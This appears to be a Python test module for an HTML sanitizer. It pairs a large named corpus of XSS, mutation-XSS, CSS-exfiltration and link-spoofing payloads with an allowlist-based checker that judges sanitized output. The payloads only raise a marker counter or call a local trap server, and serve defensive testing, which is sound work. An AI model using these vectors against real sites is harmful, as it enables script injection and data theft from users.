# ruff: noqa: E501  (a hostile page is read best as one line)
"""Pages that want to run, fetch, send or lead away, and a judge of what is made of them that shares no code with it.

``MARK`` in a page is a script that leaves a mark; ``TRAP`` is the address of a server that nothing may be asked of.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from lxml import etree
from lxml import html as lxml_html

__all__ = ["OWN_PICTURE", "VECTORS", "faults", "hostile_page"]

OWN_PICTURE = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

_MARK = "window.marker=(window.marker||0)+1"
_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

_SOURCES: dict[str, str] = {
    # scripts
    "script": "<script>MARK</script>",
    "script-src": '<script src="TRAP/script-src.js"></script>',
    "script-case": "<ScRiPt >MARK</sCrIpT\t>",
    "script-split": "<scr<script>ipt>MARK</scr</script>ipt>",
    "script-unclosed": "<p>a</p><script>MARK//",
    "script-in-attribute": '<p title="</p><script>MARK</script>">t</p>',
    "script-module": '<script type="module">import "TRAP/module.js"; MARK</script>',
    "script-slash": "<script/x>MARK</script/y>",
    "script-nul": "<scr\0ipt>MARK</scr\0ipt>",
    "importmap": '<script type="importmap">{"imports":{"a":"TRAP/importmap.js"}}</script>',
    "speculation": '<script type="speculationrules">{"prerender":[{"urls":["TRAP/speculation"]}]}</script>',
    # event handlers
    "img-onerror": "<img src=x onerror=MARK>",
    "img-onerror-slash": "<img/src=x/onerror=MARK>",
    "img-onerror-quote": "<img src=x` `onerror=MARK`>",
    "image-alias": "<image src=TRAP/image onerror=MARK>",
    "body-onload": "<body onload=MARK onpageshow=MARK onhashchange=MARK>",
    "html-handler": "<html onmouseover=MARK manifest=TRAP/manifest.appcache>",
    "svg-onload": "<svg onload=MARK></svg>",
    "details-ontoggle": "<details open ontoggle=MARK>x</details>",
    "input-autofocus": "<input autofocus onfocus=MARK>",
    "select-autofocus": "<select autofocus onfocus=MARK><option>x</select>",
    "contenteditable": "<div contenteditable autofocus tabindex=0 onfocus=MARK>x</div>",
    "marquee": "<marquee onstart=MARK onbounce=MARK>x</marquee>",
    "animation-handler": "<style>@keyframes k{from{color:red}}</style><b style='animation:k 1ms' onanimationstart=MARK>x</b>",
    "transition-handler": "<b style='transition:color 1ms;color:red' ontransitionend=MARK>x</b>",
    "video-handlers": "<video src=TRAP/video poster=TRAP/poster onloadstart=MARK autoplay></video>",
    "audio-source": "<audio autoplay onerror=MARK><source src=TRAP/source onerror=MARK></audio>",
    "track": "<video><track default src=TRAP/track onerror=MARK></video>",
    "content-visibility": "<b style='display:block;content-visibility:auto' oncontentvisibilityautostatechange=MARK>x</b>",
    "scrollend": "<b id=x onscrollend=MARK onbeforetoggle=MARK onpointerrawupdate=MARK>x</b>",
    # addresses that run
    "javascript-link": '<a href="javascript:MARK" id=click>x</a>',
    "javascript-entities": '<a href="jav&#x61;script&colon;MARK" id=click>x</a>',
    "javascript-tab": '<a href="java&Tab;scr&NewLine;ipt:MARK" id=click>x</a>',
    "javascript-zeros": '<a href="&#0000106&#0000097vascript:MARK" id=click>x</a>',
    "javascript-control": '<a href="\x01 \x0bjavascript:MARK" id=click>x</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">x</a>',
    "data-link": '<a href="data:text/html,<script>MARK</script>" target=_top id=click>x</a>',
    "data-link-own": '<a data-link="javascript:MARK" title="javascript:MARK">x</a>',
    "blob-link": '<a href="blob:TRAP/blob">x</a>',
    "area": "<map name=m><area shape=rect coords=0,0,9,9 href=javascript:MARK></map><img usemap=#m src=TRAP/usemap>",
    "xlink": f'<svg {_SVG}><a xlink:href="javascript:MARK"><text y=20>x</text></a></svg>',
    # frames and plug-ins
    "iframe": "<iframe src=TRAP/iframe></iframe>",
    "iframe-javascript": '<iframe src="javascript:parent.marker=1"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.marker=1</script><img src=TRAP/srcdoc>"></iframe>',
    "frameset": "<frameset onload=MARK><frame src=TRAP/frame></frameset>",
    "noframes": "<noframes><script>MARK</script></noframes>",
    "object": "<object data=TRAP/object type=text/html><param name=src value=TRAP/param></object>",
    "object-javascript": "<object data=javascript:parent.marker=1></object>",
    "embed": "<embed src=TRAP/embed type=text/html>",
    "applet": "<applet code=A.class archive=TRAP/applet.jar codebase=TRAP/></applet>",
    "portal": "<portal src=TRAP/portal></portal><fencedframe src=TRAP/fenced></fencedframe>",
    # forms
    "form-action": "<form action=TRAP/form><input name=q value=1><button id=click>go</button></form>",
    "form-javascript": "<form action=javascript:MARK><input type=submit id=click></form>",
    "formaction": "<form><button formaction=TRAP/formaction id=click>go</button><input type=submit formaction=javascript:MARK></form>",
    "form-attribute": "<form id=f action=TRAP/outer></form><input type=submit form=f id=click>",
    "isindex": "<isindex action=TRAP/isindex>",
    "input-image": "<form action=TRAP/x><input type=image src=TRAP/input-image formaction=TRAP/y onerror=MARK></form>",
    "input-file": "<input type=file id=file><input type=hidden name=token value=1>",
    # the head
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=TRAP/refresh">',
    "meta-refresh-entity": '<meta http-equiv="&#114;efresh" content="0; url=javascript:MARK">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri TRAP/csp">',
    "meta-set-cookie": '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="origin-trial" content="x">',
    "base": '<base href="TRAP/base/" target=_top><img src=relative><a href=relative id=click>x</a>',
    "link-stylesheet": "<link rel=stylesheet href=TRAP/sheet.css onload=MARK>",
    "link-prefetch": "<link rel=prefetch href=TRAP/prefetch><link rel=preload as=image href=TRAP/preload>",
    "link-connect": "<link rel=dns-prefetch href=TRAP><link rel=preconnect href=TRAP/connect>",
    "link-icon": "<link rel='shortcut icon' href=TRAP/icon><link rel=manifest href=TRAP/manifest>",
    "link-import": "<link rel=import href=TRAP/import><link rel=modulepreload href=TRAP/m.js><link rel=prerender href=TRAP/pre>",
    "link-imagesrcset": "<link rel=preload as=image imagesrcset='TRAP/imagesrcset 1x'>",
    "title-break": "</title><title></title><script>MARK</script></title>",
    # pictures and the like
    "img": "<img src=TRAP/img lowsrc=TRAP/lowsrc dynsrc=TRAP/dynsrc longdesc=TRAP/longdesc>",
    "img-protocol": "<img src=//TRAPHOST/protocol>",
    "img-backslash": "<img src='\\\\TRAPHOST\\backslash'>",
    "img-data-svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='TRAP/svg'/></svg>\">",
    "srcset": "<img srcset='TRAP/srcset 1x, TRAP/srcset2 2x'><picture><source srcset=TRAP/picture><img></picture>",
    "background": "<table background=TRAP/table><tr background=TRAP/tr><td background=TRAP/td>x</table><body background=TRAP/body>",
    "ping": '<a href="#x" ping="TRAP/ping" id=click>x</a>',
    "attribution": '<a href="#x" attributionsrc="TRAP/attribution" id=click>x</a><img attributionsrc=TRAP/imgattr>',
    "cite": "<blockquote cite=TRAP/cite>x</blockquote><ins cite=TRAP/ins>x</ins><img longdesc=TRAP/l profile=TRAP/p>",
    "command": "<button commandfor=d command=show-modal id=click>x</button><dialog id=d><script>MARK</script>x</dialog>",
    "popover": "<button popovertarget=p id=click>x</button><div popover id=p ontoggle=MARK>x</div>",
    # style sheets
    "css-import": "<style>@import 'TRAP/import.css'; @import url(TRAP/import2.css) screen;</style>",
    "css-import-escaped": "<style>@\\69mport 'TRAP/import3.css';@\\00049 MPORT url(TRAP/import4.css);</style>",
    "css-url": "<style>body{background:url(TRAP/css-url)} p{list-style:url('TRAP/css-list')}</style><p>x</p>",
    "css-url-escaped": "<style>body{background:\\75\\72\\6c(TRAP/css-escaped)}</style><p style='background:u\\rl(TRAP/css-style)'>x",
    "css-url-comment": "<style>body{background:ur/**/l(TRAP/a) url(/**/TRAP/b) url( TRAP/c )}</style>",
    "css-image-set": "<style>body{background:image-set('TRAP/set' 1x);background:-webkit-image-set(url(TRAP/set2) 1x)}</style>",
    "css-image-string": "<style>body{background:image('TRAP/image');background:src('TRAP/src');background:cross-fade('TRAP/f',red)}</style>",
    "css-font": "<style>@font-face{font-family:f;src:url(TRAP/font)}body{font-family:f}</style>x",
    "css-exfiltration": "<style>input[value^='a']{background:url(TRAP/leak?a)}</style><input value=abc type=text>",
    "css-exfiltration-has": "<style>html:has(input[value^='a']){--x:url(TRAP/has);background:var(--x)}</style><input value=abc>",
    "css-variable": "<style>:root{--u:'TRAP/variable'} body{background:image-set(var(--u) 1x)}</style>",
    "css-attr": "<style>b{background:attr(data-u type(<url>))} b::before{content:url(TRAP/content)}</style><b data-u=TRAP/attr>x</b>",
    "css-property": "<style>@property --p{syntax:'<url>';inherits:false;initial-value:url(TRAP/property)}b{background:var(--p)}</style><b>x",
    "css-namespace": "<style>@namespace url(TRAP/namespace);@charset 'x';@document url(TRAP/d){b{color:red}}</style>",
    "css-expression": "<style>b{width:expression(MARK);behavior:url(TRAP/htc);-moz-binding:url(TRAP/xbl#x)}</style><b>x</b>",
    "css-cursor": "<b style='cursor:url(TRAP/cursor),auto;filter:url(TRAP/filter#f);mask:url(TRAP/mask);clip-path:url(TRAP/clip#c)'>x</b>",
    "css-shapes": "<b style='shape-outside:url(TRAP/shape);border-image:url(TRAP/border) 1;offset-path:url(TRAP/o#o)'>x</b>",
    "css-keyframes": "<style>@keyframes k{to{background:url(TRAP/keyframe)}}b{animation:k 1ms infinite}</style><b>x</b>",
    "css-media": "<style>@media all{@media all{@supports(color:red){b{background:url(TRAP/media)}}}}</style><b>x</b>",
    "css-nesting": "<style>body{& b{background:url(TRAP/nested)} .a &{color:red}}</style><b>x</b>",
    "css-end-tag": "<style>b::after{content:'</style><img src=TRAP/content onerror=MARK>'}</style>",
    "css-end-tag-escaped": "<style>b::after{content:'\\3c/style\\3e\\3cimg src=x onerror=MARK\\3e'}</style><b>x</b>",
    "css-selector-end-tag": "<style>a[title='\\3c/style><script>MARK</script>']{color:red}</style>",
    "css-fixed": "<style>.cover{position:fixed;inset:0;position:/**/FIXED}</style><p class=cover style='position:f\\ixed'>x</p>",
    "css-braces": "<style>}}}{{{ b{background:url(TRAP/braces) </style><b style='}b{background:url(TRAP/stylebrace)}'>x</b>",
    "css-quote": "<b style=\"font-family:'a\nb;background:url(TRAP/newline)'\">x</b>",
    "css-style-type": "<style type=text/x media='all' onload=MARK>b{background:url(TRAP/type)}</style><b>x</b>",
    "css-in-svg": "<svg><style>b{background:url(TRAP/insvg)}</style></svg><b>x</b>",
    # SVG and MathML
    "svg-script": f"<svg {_SVG}><script>MARK</script><script href=TRAP/svg.js /></svg>",
    "svg-animate": f'<svg {_SVG}><a id=click><animate attributeName=href values="javascript:MARK"/><text y=20>x</text></a></svg>',
    "svg-set": f"<svg {_SVG}><image href=TRAP/svg-image /><set attributeName=onmouseover to=MARK /></svg>",
    "svg-use": f'<svg {_SVG}><use href="TRAP/use.svg#x"/><use xlink:href="data:image/svg+xml,<svg id=x onload=MARK>#x"/></svg>',
    "svg-foreign": f"<svg {_SVG}><foreignObject><iframe src=TRAP/foreign></iframe><img src=TRAP/f onerror=MARK></foreignObject></svg>",
    "svg-feimage": f"<svg {_SVG}><filter id=f><feImage href=TRAP/feimage /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "svg-handler": f"<svg {_SVG}><animate onbegin=MARK attributeName=x dur=1s></svg>",
    "mathml": '<math href="javascript:MARK" id=click><mi xlink:href="javascript:MARK">x</mi></math>',
    "mathml-action": "<math><maction actiontype=statusline xlink:href=javascript:MARK>x<mtext>y</mtext></maction></math>",
    # mutation: what is read anew differs from what was checked
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=MARK>">',
    "mutation-style-svg": "<svg><style><img src=x onerror=MARK></style></svg>",
    "mutation-style-svg-title": '<svg></p><style><a title="</style><img src=x onerror=MARK>">',
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=MARK&gt;'>",
    "mutation-math-annotation": '<math><annotation-xml encoding="text/html"><style></annotation-xml><img src=x onerror=MARK></style>',
    "mutation-template": "<template><script>MARK</script><img src=TRAP/template></template>",
    "mutation-shadow": "<div><template shadowrootmode=open><img src=TRAP/shadow onerror=MARK></template></div>",
    "mutation-form": "<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=MARK>",
    "mutation-textarea": "<textarea></textarea&gt;<img src=x onerror=MARK></textarea><textarea>&lt;/textarea>&lt;img src=x onerror=MARK>",
    "mutation-title": "<title>&lt;/title>&lt;img src=x onerror=MARK></title>",
    "mutation-xmp": "<xmp><p title='</xmp><img src=x onerror=MARK>'></xmp>",
    "mutation-noembed": "<noembed><p title='</noembed><img src=x onerror=MARK>'></noembed>",
    "mutation-iframe": "<iframe><p title='</iframe><img src=x onerror=MARK>'></iframe>",
    "mutation-comment": "<!--><img src=x onerror=MARK>--><!--a--!><img src=x onerror=MARK>--><!-->-><img src=x onerror=MARK>",
    "mutation-cdata": "<svg><![CDATA[><img src=x onerror=MARK>]]></svg><![CDATA[<img src=x onerror=MARK>]]>",
    "mutation-select": "<select><option><style></option></select><img src=x onerror=MARK></style></select>",
    "mutation-table": "<table><td><a id=x></table><img src=x onerror=MARK></a>",
    "mutation-backtick": "<p title='``onmouseover=MARK'>x</p>",
    "mutation-nested": "<b title='\"><img src=x onerror=MARK>' alt=\"'><img src=x onerror=MARK>\">x</b>",
    "conditional": "<!--[if gte IE 4]><script>MARK</script><![endif]--><![if !IE]><img src=x onerror=MARK><![endif]>",
    "processing": "<?xml-stylesheet href='TRAP/pi.css'?><?php MARK ?><%<img src=x onerror=MARK>%>",
    "held": "\ufdd1img src=x onerror=MARK\ufdd2 &#xfdd1;img src=x onerror=MARK> <b title='\ufdd2 onmouseover=MARK'>x</b>",
    # what deceives
    "bidi": "<p>\u202egnp.exe\u202c \u2066x</p><a href='TRAP/\u202egpj.exe'>\u202ex</a><title>\u202ex</title>",
    "target-top": "<a href=TRAP/top target=_top id=click rel=opener download>x</a>",
    "clobber": "<form name=body><input name=attributes></form><img name=cookie><a id=marker name=marker>x</a>",
    "xml": '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><x:script xmlns:x="http://www.w3.org/1999/xhtml">MARK</x:script>',
    "custom": "<x-element onclick=MARK style='background:url(TRAP/custom)' is=x>x</x-element><slot onslotchange=MARK>x</slot>",
    "encoding": "+ADw-script+AD4-MARK+ADw-/script+AD4- \u00bcscript\u00be",
}  # fmt: skip


def hostile_page(name: str, trap: str) -> str:
    """Return a page of the corpus; ``trap`` is ``http://HOST:PORT``."""
    source = _SOURCES[name].replace("TRAPHOST", trap.partition("//")[2]).replace("TRAP", trap)
    return source.replace("MARK", _MARK)


VECTORS = tuple(_SOURCES)
"""Names of the pages."""

# The judge. Everything it lets pass is named here, on purpose a second time.
_ELEMENTS = frozenset(
    """html head meta title style body a abbr acronym address area article aside b bdi bdo big blockquote br button
    caption center cite code col colgroup dd del details dfn div dl dt em fieldset figcaption figure font footer h1 h2 h3
    h4 h5 h6 header hgroup hr i img input ins kbd label legend li main map mark marquee menu nav ol option p pre
    q s samp section select small span strike strong sub summary sup table tbody td textarea tfoot th thead tr tt u ul var
    data dir meter nobr optgroup output progress rb rp rt rtc ruby search time wbr""".split()
)
_ATTRIBUTES = frozenset(
    """abbr align alt aria-expanded aria-hidden aria-selected bgcolor border cellpadding cellspacing checked class clear
    color cols colspan compact data-link dir disabled face headers height hidden hspace id label lang max media min
    multiple noshade nowrap open placeholder readonly reversed role rows rowspan rules scope selected size span start
    style summary title type valign value vspace width""".split()
)
_METAS = (
    {"charset": "utf-8"},
    {"name": "referrer", "content": "no-referrer"},
    {"name": "viewport", "content": "width=device-width"},
)
_CONTROLS = {"text", "search", "email", "url", "tel", "number", "range", "date", "time", "month", "week", "color",
             "checkbox", "radio", "password", "button"}  # fmt: skip
_PICTURE = re.compile(r"data:image/(png|gif|jpeg|webp|avif|bmp);base64,[A-Za-z0-9+/=]*")
_CSS_ESCAPE = re.compile(r"\\(?:([0-9a-fA-F]{1,6})\s?|(.))", re.DOTALL)
_CSS_STRING = re.compile(r"\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*'", re.DOTALL)
_CSS_TEXT = re.compile(rf"/\*.*?\*/|\\.|(?P<url>url\(\s*)?(?P<string>{_CSS_STRING.pattern})", re.DOTALL | re.IGNORECASE)
_CSS_FORBIDDEN = re.compile(
    r"@import|@font-face|@namespace|@charset|@document|image-set|cross-fade|element\(|paint\(|\bsrc\(|\bimage\("
    r"|expression|behavior|-moz-binding|position\s*:\s*fixed",
    re.IGNORECASE,
)
_CSS_URL = re.compile(r"url\(\s*([^)]*)\)?", re.IGNORECASE)


def faults(document: str, own: frozenset[str] = frozenset()) -> list[str]:
    """Return what is wrong with a document that should be harmless; ``own`` are addresses of pictures that are ours."""
    found = []
    if re.search(r"[\0\ud800-\udfff]", document):
        found.append("characters that are none")
    root = lxml_html.document_fromstring(document, parser=lxml_html.HTMLParser(huge_tree=True))
    nodes: Iterator[Any] = root.iter()
    for element in nodes:
        if not isinstance(element.tag, str):
            found.append(f"node {element!r}")
        elif element.tag not in _ELEMENTS:
            found.append(f"element {element.tag}")
        elif element.tag == "meta":
            found += _faults_of_meta(element)
        else:
            found += _faults_of_attributes(element, own)
            if element.tag == "style":
                found += faults_of_css(element.text or "", own)
    return found


def _faults_of_meta(element: etree._Element) -> Iterator[str]:
    attributes = {str(name): str(value) for name, value in element.attrib.items()}
    if attributes.get("http-equiv") == "Content-Security-Policy":
        if not attributes["content"].startswith("default-src 'none';") or "script" in attributes["content"]:
            yield f"policy {attributes}"
    elif attributes not in _METAS:
        yield f"meta {attributes}"


def _faults_of_attributes(element: etree._Element, own: frozenset[str]) -> Iterator[str]:
    for raw_name, raw_value in element.attrib.items():
        name, value = str(raw_name), str(raw_value)
        if name in {"src", "background"}:
            if value not in own and not _PICTURE.fullmatch(value):
                yield f"{name}={value[:80]}"
        elif name not in _ATTRIBUTES:
            yield f"attribute {name} of {element.tag}"
        elif name == "style":
            yield from faults_of_css(value, own)
        elif name == "type" and element.tag in {"input", "button"} and value not in _CONTROLS:
            yield f"type {value}"
        elif name == "data-link" and value and not re.match(r"(https?|ftp)://|mailto:|tel:", value):
            yield f"link {value}"


def faults_of_css(css: str, own: frozenset[str] = frozenset()) -> Iterator[str]:
    """Yield what a style sheet could fetch or run; escapes are resolved first, as a browser does in names."""
    if re.search(r"<[a-zA-Z/!?]", css):
        yield f"tag in CSS: {css[:80]}"
    for url in _CSS_URL.findall(_resolved(_without_texts(css))):
        address = _resolved(url.strip().strip("\"'"))
        if address not in own and not _PICTURE.fullmatch(address):
            yield f"address in CSS: {url[:80]}"
    for match in _CSS_FORBIDDEN.finditer(_resolved(_CSS_STRING.sub("''", css))):
        yield f"in CSS: {match.group()}"


def _without_texts(css: str) -> str:
    """Empty all strings but those right behind ``url(``: what looks like an address in a text is none."""
    return _CSS_TEXT.sub(lambda found: "''" if found["string"] and not found["url"] else found.group(), css)


def _resolved(css: str) -> str:
    def character(escape: re.Match[str]) -> str:
        if escape[2]:
            return escape[2]
        code = int(escape[1], 16)
        return chr(code) if 0 < code < 0x110000 and not 0xD800 <= code < 0xE000 else "\ufffd"

    return _CSS_ESCAPE.sub(character, css)


def text_of(document: str) -> str:
    """Return the visible text of a document, spaces collapsed."""
    root = lxml_html.document_fromstring(document)
    etree.strip_elements(root, "style", "title", with_tail=False)
    return " ".join("".join(map(str, root.itertext())).split())
